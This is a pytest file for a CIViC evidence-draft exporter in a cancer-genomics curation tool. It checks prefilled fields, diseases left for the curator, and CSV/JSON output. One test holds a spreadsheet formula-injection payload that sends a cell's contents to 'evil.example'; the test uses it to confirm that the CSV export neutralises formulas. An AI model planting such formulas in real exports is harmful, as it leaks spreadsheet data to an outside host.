"""CIViC evidence-item drafts of accepted source suggestions (issue 36 item 13): CIViC's fields
pre-filled from the relation and the abstract's evidence sentences, the rest left empty (never
guessed), exported as CSV (formula cells neutralised) and JSON, by the library and by
``kbcurate suggestions drafts``; never submitted."""

from __future__ import annotations

import csv
import io
import json

import pytest
from app_helpers import FIXTURES, build_app_workspace

from curation.access.users import Role, User
from curation.cli.main import main
from curation.search.civic_draft import (
    CIVIC_FIELDS,
    VOCABULARY,
    civic_drafts,
    defined_diseases,
    drafts_csv,
    drafts_json,
)
from curation.search.suggestions import add_suggestion, moderate_suggestion
from curation.store.importer import import_file
from curation.store.relations import Relations
from curation.store.workspace import Workspace
from kb_sources.errors import CurationError

CURATOR, ADMIN = User("cur", Role.CURATOR), User("boss", Role.ADMIN)
EMPTY = ("therapy_interaction_type", "evidence_direction", "significance", "evidence_level")


@pytest.fixture
def root(tmp_path):
    return build_app_workspace(tmp_path / "ws", bm25=False)


def suggest(ws, pmid: str, answer: str, key: str, comment: str, *, accept: bool = True):
    (partial,) = Relations(ws).partial("PO", {"gene": "BRAF"})
    row = add_suggestion(ws, user=CURATOR, schema=ws.schemas()["PO"], partial=partial,
                         pmid=pmid, answer=answer, answer_key=key, comment=comment)
    if accept:
        row = moderate_suggestion(ws, row.id, "accepted", "checked", user=ADMIN)
    return row


def test_a_draft_prefills_what_the_relation_and_sentences_say(root):
    with Workspace.open(root) as ws:
        suggest(ws, "25265492", "Trametinib", "drug:trametinib", "dabrafenib plus trametinib")
        (draft,) = civic_drafts(ws)
    assert draft.fields == {
        "molecular_profile": "BRAF V600E", "disease": "Melanoma", "therapies": "Trametinib",
        "therapy_interaction_type": "", "evidence_type": "Predictive",
        "evidence_direction": "", "significance": "", "evidence_level": "",
        "citation_id": "25265492", "source_type": "PubMed",
        "evidence_statement": "Combined dabrafenib and trametinib in BRAF V600E melanoma "
                              "(hand-made test abstract). Patients with BRAF V600E mutant "
                              "melanoma received dabrafenib plus trametinib."}
    assert draft.statement_from == "sentences"
    assert draft.to_fill == EMPTY  # judgements no sentence match makes: never guessed
    for field in ("evidence_type", "source_type"):
        assert draft.fields[field] in VOCABULARY[field]


def test_the_disease_is_left_empty_unless_the_abstract_names_it(root):
    """90100001 says "tumours", not the KB record's "Melanoma": the curator fills it."""
    with Workspace.open(root) as ws:
        suggest(ws, "90100001", "Imatinib", "drug:imatinib", "one patient, no response")
        (draft,) = civic_drafts(ws)
    assert draft.fields["disease"] == "" and "disease" in draft.to_fill
    assert draft.fields["evidence_statement"] == (
        "Imatinib and vemurafenib in BRAF V600E tumours (hand-made). In a small series, BRAF "
        "V600E tumours responded to vemurafenib; one patient also received imatinib without "
        "response.")


def test_only_accepted_suggestions_get_a_draft(root):
    with Workspace.open(root) as ws:
        pending = suggest(ws, "90100001", "Imatinib", "drug:imatinib", "seen", accept=False)
        assert civic_drafts(ws) == []
        with pytest.raises(CurationError, match=rf"#{pending.id} is new.*accept them"):
            civic_drafts(ws, [pending])


def test_csv_neutralises_formulas_and_json_keeps_the_text(root):
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with Workspace.open(root) as ws:
        # no sentence names nilotinib with BRAF V600E: the statement is the curator's comment
        suggest(ws, "90100001", "Nilotinib", "drug:nilotinib", payload)
        drafts = civic_drafts(ws)
    (row,) = list(csv.DictReader(io.StringIO(drafts_csv(drafts))))
    assert list(row)[:len(CIVIC_FIELDS)] == list(CIVIC_FIELDS)
    assert row["evidence_statement"] == "'" + payload and row["comment"] == "'" + payload
    assert row["statement_from"] == "comment"
    assert row["to_fill"] == "disease, " + ", ".join(EMPTY)
    data = json.loads(drafts_json(drafts))
    assert data["drafts"][0]["evidence_statement"] == payload
    assert "never submitted" in data["notice"]
    assert data["vocabulary"]["evidence_direction"] == ["Supports", "Does Not Support"]
    assert drafts_csv([]).startswith("molecular_profile,disease,therapies,")


def test_the_vocabulary_is_civics_own():
    """Every evidence type, direction and level of the CIViC export sample is a choice."""
    rows = list(csv.DictReader(open(FIXTURES / "civic_v1_sample.tsv", encoding="utf-8"),
                               delimiter="\t"))
    for field in ("evidence_type", "evidence_direction", "evidence_level"):
        assert {r[field] for r in rows} <= set(VOCABULARY[field]), field
    assert VOCABULARY["evidence_level"] == ("A", "B", "C", "D", "E")


def test_cli_writes_drafts_as_csv_and_json(root, tmp_path, capsys):
    with Workspace.open(root) as ws:
        suggest(ws, "25265492", "Trametinib", "drug:trametinib", "dabrafenib plus trametinib")
        suggest(ws, "90100001", "Imatinib", "drug:imatinib", "pending one", accept=False)
    out = tmp_path / "drafts.csv"
    assert main(["suggestions", "drafts", "-w", str(root), str(out)]) == 0
    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert (row["molecular_profile"], row["therapies"], row["citation_id"]) == (
        "BRAF V600E", "Trametinib", "25265492")
    assert "Nothing was submitted to CIViC" in capsys.readouterr().err
    assert main(["suggestions", "drafts", "--format", "json", "-w", str(root), "-"]) == 0
    (draft,) = json.loads(capsys.readouterr().out)["drafts"]
    assert draft["evidence_type"] == "Predictive" and draft["answer"] == "Trametinib"
    assert main(["suggestions", "drafts", "-w", str(root), str(tmp_path / "no" / "x.csv")]) == 2
    assert "does not exist" in capsys.readouterr().err


# -- the disease is the one the abstract is about (issue 44 item 5) -------------------------------
GEP_NET = {"pmid": "90440101",
           "title": "BRAF V600E in gastroenteropancreatic neuroendocrine tumors (hand-made).",
           "abstract": "Genomic profiles of gastroenteropancreatic neuroendocrine tumors "
                       "(GEP-NETs) are poorly understood. Eight GEP-NETs carried mutations of "
                       "more than one cancer-related gene. One NET patient with BRAF V600E "
                       "progressed after pazopanib treatment.", "year": 2016}
CANCER_ONLY = {"pmid": "90440102", "title": "BRAF V600E in cancer (hand-made).",
               "abstract": "Tumours with BRAF V600E resisted pazopanib in a cancer-related "
                           "pathway screen.", "year": 2016}


def add_cancer_record(ws, tmp_path) -> None:
    """The abstracts above, and a CIViC record of BRAF V600E for the generic disease "Cancer"
    (CIViC has 16 such BRAF V600E records): the KB diseases are then Melanoma and Cancer."""
    lines = (FIXTURES / "civic_v1_sample.tsv").read_text(encoding="utf-8").splitlines()
    columns = lines[0].split("\t")
    row = dict.fromkeys(columns, "")
    row.update(gene="BRAF", entrez_id="673", variant="V600E", disease="Cancer",
               drugs="Dabrafenib", evidence_type="Predictive", evidence_direction="Supports",
               evidence_level="C", clinical_significance="Sensitivity/Response",
               evidence_statement="hand-made", citation_id="90440199", source_type="PubMed",
               rating="3", evidence_status="accepted", evidence_id="4401", variant_id="12",
               reference_build="GRCh37", variant_origin="Somatic")
    (tmp_path / "civic.tsv").write_text(f"{lines[0]}\n" + "\t".join(row[c] for c in columns)
                                        + "\n", encoding="utf-8")
    (tmp_path / "docs.jsonl").write_text(
        "".join(json.dumps(d) + "\n" for d in (GEP_NET, CANCER_ONLY)), encoding="utf-8")
    import_file(ws, "kb", "civic", tmp_path / "civic.tsv", progress=False)
    import_file(ws, "docs", "jsonl", tmp_path / "docs.jsonl", progress=False)


def test_the_disease_is_the_one_the_abstract_is_about_not_cancer(root, tmp_path):
    """26684240 on GEP-NETs drafted disease "Cancer" (its "cancer-related gene"), which the
    curator was not asked to check (failed before: "Cancer", disease not in to_fill)."""
    with Workspace.open(root) as ws:
        add_cancer_record(ws, tmp_path)
        (partial,) = Relations(ws).partial("PO", {"gene": "BRAF"})
        assert {"Melanoma", "Cancer"} <= set(partial.attributes["disease"])
        suggest(ws, "90440101", "Pazopanib", "drug:pazopanib", "progressed on pazopanib")
        (draft,) = civic_drafts(ws)
    assert draft.fields["disease"] == "gastroenteropancreatic neuroendocrine tumors"
    assert draft.to_fill == EMPTY


def test_a_generic_disease_is_left_for_the_curator(root, tmp_path):
    """An abstract that names no specific disease: "Cancer" (a KB disease, in "cancer-related")
    and "Tumours" are classes, so the curator fills it (failed before: "Cancer")."""
    with Workspace.open(root) as ws:
        add_cancer_record(ws, tmp_path)
        suggest(ws, "90440102", "Pazopanib", "drug:pazopanib", "resisted pazopanib")
        (draft,) = civic_drafts(ws)
    assert draft.fields["disease"] == ""
    assert draft.to_fill == ("disease", *EMPTY)
    assert draft.row()["to_fill"] == "disease, " + ", ".join(EMPTY)


def test_defined_diseases_are_the_abbreviated_diseases():
    text = ("Chronic myeloid leukemia (CML) cells and gastroenteropancreatic neuroendocrine "
            "tumors (GEP-NETs) were typed by polymerase chain reaction (PCR); tumor necrosis "
            "factor (TNF) and overall survival (OS) were measured at diagnosis (DX).")
    assert [(e.text, e.synonyms) for e in defined_diseases(text)] == [
        ("Chronic myeloid leukemia", ("CML",)),
        ("gastroenteropancreatic neuroendocrine tumors", ("GEP-NETs",))]
